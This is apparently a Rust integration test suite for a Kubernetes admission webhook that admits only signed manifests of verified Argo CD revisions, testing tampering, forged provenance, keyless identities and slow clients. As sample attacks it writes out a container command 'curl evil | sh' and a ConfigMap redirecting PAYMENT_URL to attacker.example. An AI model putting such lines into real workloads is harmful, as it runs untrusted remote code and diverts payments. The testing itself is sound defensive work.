//! The admission webhook with the real kube-apiserver calling it: the signed manifests of a verified
//! revision apply; a tampered object is denied with a readable message; an object of an Application
//! whose revision failed verification is denied; audit mode admits and records; objects outside the
//! protected namespace, or not tracked by Argo CD, are untouched; a webhook that is down denies with
//! failurePolicy Fail and admits with Ignore.

mod common;

use std::time::Duration;

use common::git::Sign;
use common::images::*;
use common::project::*;
use common::*;
use k8s_openapi::api::admissionregistration::v1::ValidatingWebhookConfiguration;
use k8s_openapi::api::core::v1::Namespace;
use kube::api::{Patch, PatchParams, PostParams};
use kube::{Api, Client};
use serde_json::{Value, json};

/// Applies as Argo CD does (server-side apply, its field manager); the apiserver's error, if any.
async fn apply(client: &Client, object: &Value) -> Result<(), String> {
    apply_as(client, object, "argocd-controller").await.map_err(|e| e.to_string())
}

/// The signed manifests of a manifest image, as the registry holds them.
async fn signed_manifests(image: &str) -> Vec<Value> {
    let (repository, digest) = image.split_once('@').unwrap();
    let registry = weft::oci::Registry::new(repository, None).unwrap();
    let manifest = registry.manifest(digest).await.unwrap().unwrap();
    let layers = registry.layers(&manifest).await.unwrap();
    let text = std::str::from_utf8(&layers[0].bytes).unwrap();
    let parsed = weft::render::manifest::parse("signed", text, weft::render::manifest::Limits::default()).unwrap();
    parsed.into_iter().map(|m| Value::Object(m.object)).collect()
}

/// `weft webhook` on `listen`, keeping its certificate in `ns` and the caBundle of `configuration`
/// current, with what it trusts (`trust`: manifest keys, a trusted root).
fn start_webhook(listen: &str, ns: &str, configuration: &str, trust: &[&str]) -> WeftProcess {
    let client_ca = format!("{}/certs/ca.crt", peer("WEFT_TEST_ENV_DIR"));
    let mut args = vec![
        "webhook",
        "--listen",
        listen,
        "--cert-host",
        "127.0.0.1",
        "--cert-namespace",
        ns,
        "--cert-secret",
        "weft-webhook-tls",
        "--webhook-configuration",
        configuration,
        "--image-tag-ttl-seconds",
        "0",
        // The apiserver presents the test environment's webhook client certificate (its admission
        // configuration); nobody else may ask the webhook anything.
        "--client-ca-file",
        &client_ca,
    ];
    args.extend_from_slice(trust);
    WeftProcess::start(&args)
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

#[tokio::test]
async fn only_the_signed_manifests_of_a_verified_revision_are_admitted() {
    let lab = Lab::new();
    let web = lab.image("lab/admitted-web", "1.0");
    lab.sign("k", &web);
    let project = with_namespace(|ns| {
        let deployment = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "cart", "namespace": ns},
            "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "cart"}}, "template": {"metadata": {"labels": {"app": "cart"}},
                "spec": {"containers": [{"name": "web", "image": web}]}}}});
        let config = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "cart-config", "namespace": ns},
            "data": {"CURRENCY": "EUR"}});
        vec![("deployment.yaml".into(), deployment.to_string()), ("configmap.yaml".into(), config.to_string())]
    });
    let signed_head = project.repo.head();
    project.repo.write("unsigned.yaml", b"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: late}\n");
    let unsigned_head = project.repo.commit_all("not signed", Sign::No);

    let client = client().await;
    let ns = namespace(&client, "admission").await;
    let dest = project.namespace.clone();
    let namespace: Namespace = serde_json::from_value(json!({"metadata": {"name": dest}})).unwrap();
    Api::<Namespace>::all(client.clone()).create(&PostParams::default(), &namespace).await.unwrap();
    project.apply_resources(&client, &ns).await;
    apply_documents(&client, &ns, &std::fs::read_to_string(lab.path("resources.yaml")).unwrap()).await;
    let repository = format!("{}/manifests/admission-{}", peer("WEFT_TEST_REGISTRY"), rand_suffix());
    let iv = lab.image_verification(key("keys"), json!({}));
    let path = project.profile(&repository, true, json!({"imageVerification": iv}));
    let mut profile: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    profile["metadata"] = json!({"name": "production"});
    create(&profiles(&client, &ns), profile).await;
    let app = |name: &str, revision: &str| {
        let mut app: Value =
            serde_json::from_str(&std::fs::read_to_string(project.application(json!({}))).unwrap()).unwrap();
        app["metadata"] = json!({"name": name});
        app["status"]["sync"]["revision"] = json!(revision);
        app
    };
    create(&applications(&client, &ns), app("shop-cart", &signed_head)).await;
    create(&applications(&client, &ns), app("rogue", &unsigned_head)).await;
    let cache = project.path("controller-cache");
    let controller = WeftProcess::start(&["controller", "--namespace", &ns, "--cache-dir", cache.to_str().unwrap()]);
    let verified =
        provenance_where(&client, &ns, "shop-cart", "a verified revision", |v| v["status"]["verdict"] == "Verified")
            .await;
    provenance_where(&client, &ns, "rogue", "a failed revision", |v| v["status"]["verdict"] == "Failed").await;
    let manifests = signed_manifests(verified["status"]["manifestImage"].as_str().unwrap()).await;
    assert_eq!(manifests.len(), 2);

    // The webhook, and the apiserver calling it for the destination namespace only.
    let configuration = format!("weft-{ns}");
    let port = free_port();
    let webhooks: Api<ValidatingWebhookConfiguration> = Api::all(client.clone());
    let vwc = |policy: &str| {
        json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
            "metadata": {"name": configuration},
            "webhooks": [{"name": "validate.weft.dev", "admissionReviewVersions": ["v1"], "sideEffects": "None",
                "failurePolicy": policy, "timeoutSeconds": 5,
                "clientConfig": {"url": format!("https://127.0.0.1:{port}/validate")},
                "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": dest}},
                "rules": [{"apiGroups": ["", "apps"], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
                    "resources": ["configmaps", "deployments"]}]}]})
    };
    webhooks.create(&PostParams::default(), &serde_json::from_value(vwc("Fail")).unwrap()).await.unwrap();
    let weft_pub = project.path("weft.pub").to_str().unwrap().to_string();
    let listen = format!("127.0.0.1:{port}");
    let start_webhook = || start_webhook(&listen, &ns, &configuration, &["--manifest-key", &weft_pub]);
    let mut webhook = start_webhook();
    common::chart::webhook_serving(&client, &configuration, &format!("127.0.0.1:{port}")).await;

    // The signed manifests apply (retried while the webhook starts, as Argo CD retries a sync).
    for object in &manifests {
        let client = &client;
        eventually(
            "the signed manifests to apply",
            Duration::from_secs(30),
            || async move { apply(client, object).await },
        )
        .await;
    }

    // A tampered object is denied, saying which Application, which revision and which field.
    let mut tampered = manifests.iter().find(|m| m["kind"] == "Deployment").unwrap().clone();
    tampered["spec"]["replicas"] = json!(5);
    let err = apply(&client, &tampered).await.expect_err("a tampered Deployment is denied");
    assert!(err.contains(&format!("Application {ns}/shop-cart")), "{err}");
    assert!(err.contains(&signed_head[..12]), "{err}");
    assert!(err.contains("spec.replicas: signed 2, got 5"), "{err}");

    // An object of the Application whose revision failed verification is denied.
    let mut rogue = manifests.iter().find(|m| m["kind"] == "ConfigMap").unwrap().clone();
    rogue["metadata"]["name"] = json!("rogue-config");
    rogue["metadata"]["annotations"]["argocd.argoproj.io/tracking-id"] =
        json!(format!("{ns}_rogue:/ConfigMap:{dest}/rogue-config"));
    let err = apply(&client, &rogue).await.expect_err("an object of a failed revision is denied");
    assert!(err.contains("not vouched for (verdict Failed"), "{err}");

    // Whoever can write an ApplicationProvenance's status names a manifest image of their own (pushed
    // where the manifests go, holding what they want to apply) and a verdict: not believed, since the
    // image carries no signature by a manifest key. (Weft's controller, which would write the status
    // back, is stopped first.)
    drop(controller);
    let forged_config = json!({"apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": "rogue-config", "namespace": dest,
            "annotations": {"argocd.argoproj.io/tracking-id": format!("{ns}_rogue:/ConfigMap:{dest}/rogue-config")}},
        "data": {"CURRENCY": "USD"}});
    let forged = weft::oci::manifest_image(forged_config.to_string().as_bytes(), &Default::default());
    let registry = weft::oci::Registry::new(&repository, None).unwrap();
    registry.push(&forged, Some("forged")).await.unwrap();
    let forged_image = format!("{repository}@{}", forged.digest());
    let rogue_status = json!({"status": {"verdict": "Verified", "manifestImage": forged_image,
        "sources": [{"repoURL": "https://example.invalid/rogue", "revision": unsigned_head}]}});
    provenances(&client, &ns)
        .patch_status("rogue", &PatchParams::default(), &Patch::Merge(&rogue_status))
        .await
        .unwrap();
    let (c, f) = (&client, &forged_config);
    let err = eventually("the forged provenance seen, and not believed", Duration::from_secs(30), || async move {
        match apply(c, f).await {
            Ok(()) => Ok(Err("admitted".to_string())),
            Err(e) if e.contains("not signed by a manifest key") => Ok(Ok(e)),
            Err(e) => Err(e),
        }
    })
    .await
    .expect("the forged manifest image is refused");
    assert!(err.contains(&forged_image[forged_image.len() - 20..]), "{err}");

    // Not tracked by Argo CD, or in a namespace the webhook does not cover: untouched.
    let untracked =
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "hand-made", "namespace": dest}});
    apply(&client, &untracked).await.expect("an object no Application tracks is admitted");
    let mut elsewhere = tampered.clone();
    elsewhere["metadata"]["namespace"] = json!(ns);
    apply(&client, &elsewhere).await.expect("the webhook does not cover this namespace");

    // Audit mode: admitted, with an Event on the Application.
    let pp = PatchParams::default();
    let audit = json!({"spec": {"enforcement": {"mode": "audit"}}});
    profiles(&client, &ns).patch("production", &pp, &Patch::Merge(&audit)).await.unwrap();
    let (c, t) = (&client, &tampered);
    eventually("audit mode", Duration::from_secs(30), || async move { apply(c, t).await }).await;
    let events: Api<k8s_openapi::api::events::v1::Event> = Api::namespaced(client.clone(), &ns);
    eventually("an audit Event", Duration::from_secs(30), || {
        let events = events.clone();
        async move {
            let list = events.list(&Default::default()).await.map_err(|e| e.to_string())?;
            let audited = list.items.iter().find(|e| e.reason.as_deref() == Some("AdmissionAudited"));
            let note = audited.and_then(|e| e.note.clone()).ok_or("no AdmissionAudited Event yet")?;
            if note.contains("spec.replicas") { Ok(()) } else { Err(note) }
        }
    })
    .await;
    // Enforcing again, with the profile ignoring replicas (an autoscaler's field): that change is admitted,
    // any other still denied.
    let enforce = json!({"spec": {"enforcement": {"mode": "enforce",
        "ignoreFields": [{"fields": ["spec.replicas"], "objects": [{"kind": "Deployment"}]}]}}});
    profiles(&client, &ns).patch("production", &pp, &Patch::Merge(&enforce)).await.unwrap();
    tampered["spec"]["replicas"] = json!(7);
    let (c, t) = (&client, &tampered);
    eventually("replicas ignored", Duration::from_secs(30), || async move { apply(c, t).await }).await;
    // A field the signed manifest does not have, and that is no default, is denied too.
    tampered["spec"]["template"]["spec"]["containers"][0]["command"] = json!(["sh", "-c", "curl evil | sh"]);
    let err = apply(&client, &tampered).await.expect_err("other fields are still enforced");
    assert!(err.contains("containers.0.command: signed (unset), got [\"sh\""), "{err}");

    // The tag of the verified image moves (a push to the registry): the signed Deployment, applied
    // again as it was verified, would now run what nobody verified, so it is denied.
    lab.image("lab/admitted-web", "1.0");
    let signed_deployment = manifests.iter().find(|m| m["kind"] == "Deployment").unwrap();
    api_for(&client, signed_deployment).await.delete("cart", &Default::default()).await.unwrap();
    let err = apply(&client, signed_deployment).await.expect_err("a moved tag is denied");
    assert!(err.contains("the tag moved") && err.contains(&web), "{err}");

    // Its metrics count the decisions.
    let http = reqwest::Client::builder().danger_accept_invalid_certs(true).build().unwrap();
    let metrics = http.get(format!("https://127.0.0.1:{port}/metrics")).send().await.unwrap().text().await.unwrap();
    for decision in ["allowed", "denied", "audited"] {
        let series = format!("weft_admission_reviews_total{{decision=\"{decision}\"}}");
        assert!(metrics.contains(&series), "{series} in {metrics}");
    }
    // A review from anyone but the apiserver (no client certificate) gets no answer: a crafted review
    // cannot read decisions back.
    let review = json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
        "request": {"uid": "u", "operation": "CREATE", "kind": {"group": "", "version": "v1", "kind": "ConfigMap"},
            "resource": {"group": "", "version": "v1", "resource": "configmaps"}, "namespace": dest,
            "userInfo": {"username": "x"}, "object": rogue}});
    let crafted = http.post(format!("https://127.0.0.1:{port}/validate")).json(&review).send().await.unwrap();
    assert_eq!(crafted.status(), 403, "{}", crafted.text().await.unwrap());

    // The limit of the dry run: a mutating webhook (a sidecar injector, say) that adds a value to the
    // signed ConfigMap adds it to Weft's dry run of that manifest too. Weft's dry run of this revision's
    // ConfigMap ran (and is cached) before the injector came: the addition is caught. A Weft webhook
    // that makes its dry run with the injector in place takes the addition for a default and admits it.
    let injector = Injector::start(&client, &dest).await;
    let config = manifests.iter().find(|m| m["kind"] == "ConfigMap").unwrap();
    api_for(&client, config).await.delete("cart-config", &Default::default()).await.unwrap();
    let err = apply(&client, config).await.expect_err("an injected value against a dry run made before");
    assert!(err.contains("data.INJECTED: signed (unset), got \"1\""), "{err}");
    assert_eq!(webhook.terminate(Duration::from_secs(10)).await, Some(0));
    webhook = start_webhook();
    let (c, m) = (&client, config);
    eventually("the restarted webhook", Duration::from_secs(30), || async move { apply(c, m).await }).await;
    let live = api_for(&client, config).await.get("cart-config").await.unwrap();
    assert_eq!(live.data["data"]["INJECTED"], "1", "what passes: the injected value, taken for a default");
    injector.remove(&client).await;

    // The webhook down: failurePolicy Fail denies everything it covers; Ignore admits.
    assert_eq!(webhook.terminate(Duration::from_secs(10)).await, Some(0), "stops cleanly on SIGTERM");
    let another =
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "while-down", "namespace": dest}});
    let err = apply(&client, &another).await.expect_err("Fail: nothing is admitted while the webhook is down");
    assert!(err.contains("failed calling webhook"), "{err}");
    let ignore = json!({"webhooks": [{"name": "validate.weft.dev", "failurePolicy": "Ignore"}]});
    let current = webhooks.get(&configuration).await.unwrap();
    let mut hooks = serde_json::to_value(current.webhooks.unwrap()).unwrap();
    hooks[0]["failurePolicy"] = ignore["webhooks"][0]["failurePolicy"].clone();
    webhooks.patch(&configuration, &pp, &Patch::Merge(&json!({"webhooks": hooks}))).await.unwrap();
    apply(&client, &another).await.expect("Ignore: admitted while the webhook is down");
    webhooks.delete(&configuration, &Default::default()).await.unwrap();
}

/// A few slow or idle clients cannot exhaust the webhook: a connection over the cap is closed at once,
/// one that does not finish its TLS handshake, its headers or its body in time is closed (or answered
/// 408), and then the webhook answers as before.
#[tokio::test]
async fn slow_and_idle_clients_cannot_exhaust_the_webhook() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use tokio_rustls::rustls::pki_types::pem::PemObject;
    use tokio_rustls::rustls::pki_types::{CertificateDer, ServerName};
    use tokio_rustls::rustls::{ClientConfig, RootCertStore};

    let dir = tempfile::tempdir().unwrap();
    let (code, _, err) = run_cmd(std::process::Command::new("openssl").current_dir(dir.path()).args([
        "req",
        "-x509",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
        "-days",
        "1",
        "-subj",
        "/CN=127.0.0.1",
        "-addext",
        "subjectAltName=IP:127.0.0.1",
        "-addext",
        "basicConstraints=critical,CA:FALSE",
        "-keyout",
        "key.pem",
        "-out",
        "cert.pem",
    ]));
    assert_eq!(code, 0, "openssl: {err}");
    let address = format!("127.0.0.1:{}", free_port());
    let cert = dir.path().join("cert.pem");
    let _webhook = WeftProcess::start(&[
        "webhook",
        "--listen",
        &address,
        "--tls-cert-file",
        cert.to_str().unwrap(),
        "--tls-key-file",
        dir.path().join("key.pem").to_str().unwrap(),
        "--max-connections",
        "4",
        "--handshake-timeout-seconds",
        "3",
        "--header-timeout-seconds",
        "2",
        "--body-timeout-seconds",
        "2",
    ]);
    let mut roots = RootCertStore::empty();
    for c in CertificateDer::pem_file_iter(&cert).unwrap() {
        roots.add(c.unwrap()).unwrap();
    }
    let tls = tokio_rustls::TlsConnector::from(std::sync::Arc::new(
        ClientConfig::builder().with_root_certificates(roots).with_no_client_auth(),
    ));
    let connect = || async {
        let tcp = tokio::net::TcpStream::connect(&address).await.map_err(|e| e.to_string())?;
        tls.connect(ServerName::try_from("127.0.0.1").unwrap(), tcp).await.map_err(|e| e.to_string())
    };
    let ask = |request: &'static [u8]| async {
        let mut stream = connect().await?;
        stream.write_all(request).await.map_err(|e| e.to_string())?;
        let mut answer = Vec::new();
        match tokio::time::timeout(Duration::from_secs(15), stream.read_to_end(&mut answer)).await {
            Err(_) => Err("no answer and not closed within 15 s".to_string()),
            // A peer that closes without close_notify is an error to rustls; what came before counts.
            Ok(_) => Ok(String::from_utf8_lossy(&answer).into_owned()),
        }
    };
    const HEALTHZ: &[u8] = b"GET /healthz HTTP/1.1\r\nHost: weft\r\nConnection: close\r\n\r\n";
    eventually("the webhook to serve", Duration::from_secs(30), || async {
        let answer = ask(HEALTHZ).await?;
        if answer.starts_with("HTTP/1.1 200") { Ok(()) } else { Err(answer) }
    })
    .await;

    // Four clients connect and never shake hands: the cap is reached, a fifth is closed at once.
    let idle: Vec<tokio::net::TcpStream> = {
        let mut v = Vec::new();
        for _ in 0..4 {
            v.push(tokio::net::TcpStream::connect(&address).await.unwrap());
        }
        v
    };
    tokio::time::sleep(Duration::from_millis(300)).await;
    let mut fifth = tokio::net::TcpStream::connect(&address).await.unwrap();
    let mut byte = [0u8; 1];
    let closed = tokio::time::timeout(Duration::from_secs(1), fifth.read(&mut byte)).await;
    assert!(matches!(closed, Ok(Ok(0)) | Ok(Err(_))), "over the cap, a connection is closed at once: {closed:?}");
    // The idle ones are closed when their handshake time is up.
    for mut s in idle {
        let closed = tokio::time::timeout(Duration::from_secs(15), s.read(&mut byte)).await;
        assert!(matches!(closed, Ok(Ok(0)) | Ok(Err(_))), "an idle connection is closed: {closed:?}");
    }

    // After the handshake: headers that never end are cut off; a body that never comes is answered 408.
    let slow_headers = ask(b"POST /validate HTTP/1.1\r\nHost: weft\r\n").await.unwrap();
    assert!(!slow_headers.contains("200 OK"), "{slow_headers}");
    let slow_body = ask(b"POST /validate HTTP/1.1\r\nHost: weft\r\nContent-Length: 100\r\n\r\n{\"a\"").await.unwrap();
    assert!(slow_body.starts_with("HTTP/1.1 408"), "{slow_body}");

    // And the webhook goes on answering.
    let answer = ask(HEALTHZ).await.unwrap();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
}

/// Someone else's mutating webhook, on loopback: it adds `INJECTED: "1"` to every ConfigMap in one
/// namespace, dry runs included (it declares no side effects), as sidecar injectors do to Pods.
struct Injector {
    name: String,
    _server: tokio::task::JoinHandle<()>,
}

impl Injector {
    async fn start(client: &Client, namespace: &str) -> Injector {
        use http_body_util::{BodyExt, Full};
        let cert = rcgen::generate_simple_self_signed(vec!["127.0.0.1".to_string()]).unwrap();
        let config = weft::admission::webhook::certs::server_config(
            cert.cert.pem().as_bytes(),
            cert.signing_key.serialize_pem().as_bytes(),
        )
        .unwrap();
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("https://{}/mutate", listener.local_addr().unwrap());
        let server = tokio::spawn(async move {
            loop {
                let Ok((stream, _)) = listener.accept().await else { return };
                let acceptor = tokio_rustls::TlsAcceptor::from(config.clone());
                tokio::spawn(async move {
                    let Ok(stream) = acceptor.accept(stream).await else { return };
                    let service = hyper::service::service_fn(|req: hyper::Request<hyper::body::Incoming>| async move {
                        let body = req.into_body().collect().await.map(|b| b.to_bytes()).unwrap_or_default();
                        let review: Value = serde_json::from_slice(&body).unwrap_or_default();
                        let patch = json!([{"op": "add", "path": "/data/INJECTED", "value": "1"}]);
                        let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, patch.to_string());
                        let response = json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
                            "response": {"uid": review["request"]["uid"], "allowed": true, "patchType": "JSONPatch", "patch": b64}});
                        Ok::<_, std::convert::Infallible>(hyper::Response::new(Full::new(hyper::body::Bytes::from(
                            response.to_string(),
                        ))))
                    });
                    let io = hyper_util::rt::TokioIo::new(stream);
                    let _ = hyper::server::conn::http1::Builder::new().serve_connection(io, service).await;
                });
            }
        });
        let name = format!("injector-{namespace}");
        let ca = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, cert.cert.pem());
        let configuration = json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
            "metadata": {"name": name},
            "webhooks": [{"name": "inject.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
                "failurePolicy": "Fail", "timeoutSeconds": 5, "clientConfig": {"url": url, "caBundle": ca},
                "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": namespace}},
                "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["configmaps"]}]}]});
        let api: Api<k8s_openapi::api::admissionregistration::v1::MutatingWebhookConfiguration> =
            Api::all(client.clone());
        api.create(&PostParams::default(), &serde_json::from_value(configuration).unwrap()).await.unwrap();
        Injector { name, _server: server }
    }

    async fn remove(self, client: &Client) {
        let api: Api<k8s_openapi::api::admissionregistration::v1::MutatingWebhookConfiguration> =
            Api::all(client.clone());
        api.delete(&self.name, &Default::default()).await.unwrap();
    }
}

/// Keyless: the controller signs with a Fulcio certificate for its ServiceAccount, and the webhook
/// (given `--manifest-trusted-root`, and manifest keys too) admits the signed manifests because their
/// image carries a signature by the identity the profile states. A tenant's own keyless signature on
/// its own manifest image, named by a forged record, is refused; so are the same manifests when the
/// profile states another identity (the controller stopped, so the record stays as it was), or none.
#[tokio::test]
async fn a_keyless_profiles_manifests_are_admitted_only_for_the_identity_it_states() {
    let lab = Lab::new();
    let web = lab.image("lab/keyless-web", "1.0");
    lab.sign("k", &web);
    let project = with_namespace(|ns| {
        let config = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "cart-config", "namespace": ns},
            "data": {"CURRENCY": "EUR"}});
        let deployment = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "cart", "namespace": ns},
            "spec": {"selector": {"matchLabels": {"app": "cart"}}, "template": {"metadata": {"labels": {"app": "cart"}},
                "spec": {"containers": [{"name": "web", "image": web}]}}}});
        vec![("configmap.yaml".into(), config.to_string()), ("deployment.yaml".into(), deployment.to_string())]
    });
    let client = client().await;
    let ns = namespace(&client, "admission-keyless").await;
    let dest = project.namespace.clone();
    let namespace: Namespace = serde_json::from_value(json!({"metadata": {"name": dest}})).unwrap();
    Api::<Namespace>::all(client.clone()).create(&PostParams::default(), &namespace).await.unwrap();
    project.apply_resources(&client, &ns).await;
    apply_documents(&client, &ns, &std::fs::read_to_string(lab.path("resources.yaml")).unwrap()).await;

    // The controller's identity: a ServiceAccount token for Fulcio.
    let token_path = project.path("token");
    std::fs::write(&token_path, service_account_token(&ns, "weft-controller", "sigstore")).unwrap();
    let identity = json!({"issuer": peer("WEFT_TEST_OIDC_ISSUER"),
        "subject": format!("https://kubernetes.io/namespaces/{ns}/serviceaccounts/weft-controller")});

    let repository = format!("{}/manifests/admission-keyless-{}", peer("WEFT_TEST_REGISTRY"), rand_suffix());
    let iv = lab.image_verification(key("keys"), json!({}));
    let keyless = json!({"fulcioURL": peer("WEFT_TEST_FULCIO_URL"), "tokenPath": token_path, "identity": identity});
    let path = project.keyless_profile(&repository, json!({"imageVerification": iv}), keyless);
    let mut profile: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    profile["metadata"] = json!({"name": "production"});
    create(&profiles(&client, &ns), profile).await;
    let mut app: Value =
        serde_json::from_str(&std::fs::read_to_string(project.application(json!({}))).unwrap()).unwrap();
    app["metadata"] = json!({"name": "shop-cart"});
    create(&applications(&client, &ns), app).await;
    let cache = project.path("controller-cache");
    let controller = WeftProcess::start(&["controller", "--namespace", &ns, "--cache-dir", cache.to_str().unwrap()]);
    let verified =
        provenance_where(&client, &ns, "shop-cart", "a verified revision", |v| v["status"]["verdict"] == "Verified")
            .await;
    let manifests = signed_manifests(verified["status"]["manifestImage"].as_str().unwrap()).await;

    // The trusted root the webhook checks keyless signatures against: the log and Fulcio's root.
    let root_path = keyless_trusted_root(project.dir.path());

    let configuration = format!("weft-{ns}");
    let port = free_port();
    let vwc = json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": configuration},
        "webhooks": [{"name": "validate.weft.dev", "admissionReviewVersions": ["v1"], "sideEffects": "None",
            "failurePolicy": "Fail", "timeoutSeconds": 10,
            "clientConfig": {"url": format!("https://127.0.0.1:{port}/validate")},
            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": dest}},
            "rules": [{"apiGroups": ["", "apps"], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
                "resources": ["configmaps", "deployments"]}]}]});
    let webhooks: Api<ValidatingWebhookConfiguration> = Api::all(client.clone());
    webhooks.create(&PostParams::default(), &serde_json::from_value(vwc).unwrap()).await.unwrap();
    let listen = format!("127.0.0.1:{port}");
    let weft_pub = project.path("weft.pub").to_str().unwrap().to_string();
    let trust = ["--manifest-key", &weft_pub, "--manifest-trusted-root", &root_path];
    let _webhook = start_webhook(&listen, &ns, &configuration, &trust);
    common::chart::webhook_serving(&client, &configuration, &listen).await;
    // With manifest keys given, a keyless profile's image is checked by its certificate (a key check
    // would refuse it: it carries no key signature).
    let deployment = manifests.iter().find(|m| m["kind"] == "Deployment").unwrap().clone();
    let (c, d) = (&client, &deployment);
    eventually(
        "the keylessly signed Deployment to apply",
        Duration::from_secs(30),
        || async move { apply(c, d).await },
    )
    .await;

    // A tenant with a Fulcio identity of its own (a ServiceAccount in the namespace) signs manifests of
    // its own keylessly, and makes the record name that image (as one who may write its status could).
    // The image is signed, but not by the identity the profile states: refused.
    drop(controller);
    let evil = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "cart-config", "namespace": dest},
        "data": {"PAYMENT_URL": "https://attacker.example"}});
    let tenant = with_namespace(|_| vec![("evil.yaml".into(), evil.to_string())]);
    // What it applies carries the Application's tracking, as Argo CD would apply it.
    let mut evil = manifests.iter().find(|m| m["kind"] == "ConfigMap").unwrap().clone();
    evil["data"] = json!({"PAYMENT_URL": "https://attacker.example"});
    std::fs::write(tenant.path("token"), service_account_token(&ns, "tenant", "sigstore")).unwrap();
    let tenant_identity = json!({"issuer": peer("WEFT_TEST_OIDC_ISSUER"),
        "subject": format!("https://kubernetes.io/namespaces/{ns}/serviceaccounts/tenant")});
    let tenant_profile = tenant.keyless_profile(
        &format!("{}/manifests/tenant-{}", peer("WEFT_TEST_REGISTRY"), rand_suffix()),
        json!({}),
        json!({"fulcioURL": peer("WEFT_TEST_FULCIO_URL"), "identity": tenant_identity}),
    );
    let (code, out, err) = tenant.run(&tenant_profile, &tenant.application(json!({})), &["--identity-token", "token"]);
    assert_eq!(code, 0, "the tenant signs its own manifests: {err}\n{out:#}");
    let forged = out["manifestImage"].as_str().unwrap().to_string();
    let legit = verified["status"]["manifestImage"].clone();
    let point = |image: Value| json!({"status": {"manifestImage": image}});
    let records = provenances(&client, &ns);
    records.patch_status("shop-cart", &PatchParams::default(), &Patch::Merge(point(json!(forged)))).await.unwrap();
    let e = &evil;
    let err =
        eventually("the forged record seen, and the tenant's image refused", Duration::from_secs(30), || async move {
            match apply(c, e).await {
                Ok(()) => Ok(Err("admitted".to_string())),
                Err(e) if e.contains("carries no signature by") => Ok(Ok(e)),
                Err(e) => Err(e),
            }
        })
        .await
        .expect("the tenant's image is refused");
    assert!(err.contains("serviceaccounts/weft-controller") && err.contains(&forged), "{err}");
    records.patch_status("shop-cart", &PatchParams::default(), &Patch::Merge(point(legit))).await.unwrap();

    // The profile now expects another identity: the same manifest image is not signed by it, so its
    // ConfigMap (not applied yet) is refused.
    let other = json!({"spec": {"manifestSigning": {"keyless": {"identity": {"subject":
        format!("https://kubernetes.io/namespaces/{ns}/serviceaccounts/someone-else")}}}}});
    profiles(&client, &ns).patch("production", &PatchParams::default(), &Patch::Merge(&other)).await.unwrap();
    let config = manifests.iter().find(|m| m["kind"] == "ConfigMap").unwrap().clone();
    let (c, o) = (&client, &config);
    let err = eventually("the other identity seen, and the image refused", Duration::from_secs(30), || async move {
        match apply(c, o).await {
            Ok(()) => Ok(Err("admitted".to_string())),
            Err(e) if e.contains("carries no signature by") => Ok(Ok(e)),
            Err(e) => Err(e),
        }
    })
    .await
    .expect("refused for another identity");
    assert!(err.contains("someone-else"), "{err}");

    // A keyless profile that states no identity: no signature can be attributed, so nothing is admitted.
    let none = json!({"spec": {"manifestSigning": {"keyless": {"identity": null}}}});
    profiles(&client, &ns).patch("production", &PatchParams::default(), &Patch::Merge(&none)).await.unwrap();
    let err = eventually("the missing identity seen, and the image refused", Duration::from_secs(30), || async move {
        match apply(c, o).await {
            Ok(()) => Ok(Err("admitted".to_string())),
            Err(e) if e.contains("names no manifestSigning.keyless.identity") => Ok(Ok(e)),
            Err(e) => Err(e),
        }
    })
    .await
    .expect("refused without an identity");
    assert!(err.contains("cannot be attributed"), "{err}");
    webhooks.delete(&configuration, &Default::default()).await.unwrap();
}
